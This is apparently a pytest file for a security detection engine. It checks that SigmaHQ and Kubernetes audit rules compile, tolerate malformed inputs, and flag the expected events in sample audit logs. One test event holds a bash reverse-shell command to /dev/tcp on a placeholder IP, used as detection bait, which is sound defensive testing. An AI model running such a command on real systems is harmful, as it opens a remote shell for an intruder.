"""SigmaHQ's rules run unchanged, and real audit logs give what they should."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import rules
from detection.finding import Severity
from detection.rules import RuleSet, dump_rules, flatten, load_compiled
from detection.rules.parse import parse_all

DATA = Path(__file__).parents[3].parent / "shared" / "data"
pytestmark = pytest.mark.external
_OURS = ("process_creation", "file_event", "network_connection", "kubernetes/audit")


@pytest.fixture(scope="module")
def sigma_rules() -> RuleSet:
    parsed = parse_all((str(p), p.read_text()) for p in sorted((DATA / "sigma_rules").rglob("*.yml")))
    for problem in parsed.problems:
        print(problem)
    assert parsed.problems == ()
    return load_compiled(dump_rules(parsed.rules))


@pytest.fixture(scope="module")
def audit_rules() -> RuleSet:
    return load_compiled(rules.audit_rules())


def _events(path: Path) -> Iterator[dict[str, Any]]:
    for line in path.read_text().splitlines():
        try:
            yield json.loads(line)
        except ValueError:
            continue


def test_every_rule_loads_and_compiles(sigma_rules: RuleSet) -> None:
    assert sigma_rules.problems == ()
    assert len(sigma_rules.rules) == len(list((DATA / "sigma_rules").rglob("*.yml")))
    counts = {key: sum(r.key == key for r in sigma_rules.rules) for key in _OURS}
    assert all(counts.values()), counts


def test_odd_documents_never_raise(sigma_rules: RuleSet) -> None:
    odd = [
        {},
        {"Image": None},
        {"Image": 7, "CommandLine": ["a", None]},
        {"CommandLine": "\x00" * 4096, "Image": b"\xff"},
    ]
    for key in sigma_rules.keys:
        for doc in odd:
            sigma_rules.match(key, doc)


def test_well_known_attacks_match_sigmahq_rules(sigma_rules: RuleSet) -> None:
    doc = {
        "Image": "/bin/bash",
        "CommandLine": "bash -c bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
        "ParentImage": "/bin/sh",
    }
    assert sigma_rules.match("process_creation", doc)
    exec_event = {"verb": "create", "objectRef": {"resource": "pods", "subresource": "exec"}}
    titles = {m.rule.title for m in sigma_rules.match("kubernetes/audit", flatten(exec_event))}
    assert "Potential Remote Command Execution In Pod Container" in titles


def test_sigmahq_short_field_names_see_host_paths(sigma_rules: RuleSet) -> None:
    (event,) = _events(DATA / "falco_k8saudit" / "create_nginx_pod_sensitive_mount_2nd_container.json")
    titles = {m.rule.title for m in sigma_rules.match("kubernetes/audit", flatten(event))}
    assert "Container With A hostPath Mount Created" in titles


def test_a_live_cluster_is_quiet_but_for_what_people_did(audit_rules: RuleSet) -> None:
    items = json.loads((DATA / "kubernetes" / "audit-webhook-1.20.json").read_text())["items"]
    loud = [
        (match.rule.id, item["userAgent"].split("/")[0])
        for item in items
        for match in audit_rules.match("kubernetes/audit", flatten(item))
        if match.rule.level > Severity.INFORMATIONAL
    ]
    by_people = {rule for rule, agent in loud if agent == "kubectl"}
    by_components = {rule for rule, agent in loud if agent != "kubectl"}
    assert by_people == {"k8s-pod-exec", "k8s-workload-in-system-namespace"}
    # One privileged pod with the node's root and processes, created through the controller.
    assert by_components == {"k8s-privileged-pod", "k8s-host-namespace-pod", "k8s-sensitive-host-path"}


EXPECTED = {
    "anonymous_creates_namespace_foo": {"k8s-anonymous-access", "k8s-object-created"},
    "attach_pod": {"k8s-pod-attach"},
    "create_cluster_role_wildcard_resources": {"k8s-wildcard-role", "k8s-access-changed"},
    "create_cluster_role_write_privileges": {"k8s-escalating-role", "k8s-access-changed"},
    "create_clusterrolebinding": {"k8s-access-changed"},
    "create_configmap_no_sensitive_values": set(),
    "create_nginx_pod_hostnetwork": {"k8s-host-namespace-pod"},
    "create_nginx_pod_nohostnetwork": set(),
    "create_nginx_pod_privileged_2nd_container": {"k8s-privileged-pod"},
    "create_nginx_pod_sensitive_mount_2nd_container": {"k8s-sensitive-host-path"},
    "create_nginx_pod_unsensitive_mount": set(),
    "create_pod_kube_system_namespace": {"k8s-system-pod-created", "k8s-foreign-image-in-system-namespace"},
    "create_serviceaccount_kube_system_namespace": {"k8s-workload-in-system-namespace", "k8s-access-changed"},
    "delete_clusterrole": {"k8s-object-deleted"},
    "exec_pod": {"k8s-pod-exec"},
}


@pytest.mark.parametrize(("name", "wanted"), EXPECTED.items())
def test_captures_give_what_they_show(audit_rules: RuleSet, name: str, wanted: set[str]) -> None:
    (event,) = _events(DATA / "falco_k8saudit" / f"{name}.json")
    assert {m.rule.id for m in audit_rules.match("kubernetes/audit", flatten(event))} == wanted
